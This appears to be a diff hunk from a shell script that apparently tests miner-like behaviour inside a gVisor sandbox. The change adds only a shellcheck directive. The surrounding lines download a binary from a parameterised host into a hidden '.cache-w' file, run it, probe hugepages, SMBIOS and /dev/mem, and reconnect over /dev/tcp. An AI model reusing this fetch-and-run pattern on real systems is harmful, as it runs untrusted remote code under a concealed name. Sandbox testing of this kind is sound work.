@@ -9,6 +9,7 @@ curl -sS -o .cache-w "http://$1/w"
 chmod +x .cache-w
 # It looks for what miners look for, none of which is there in gVisor, and then connects again and again. The
 # connections are the program's own: /dev/tcp is opened by bash itself.
+# shellcheck disable=SC2016  # the arguments are those of the inner bash
 ./.cache-w -c '
     for path in /proc/sys/vm/nr_hugepages /sys/firmware/dmi/tables/smbios_entry_point /dev/mem; do
         : 2>/dev/null <"$path" || true
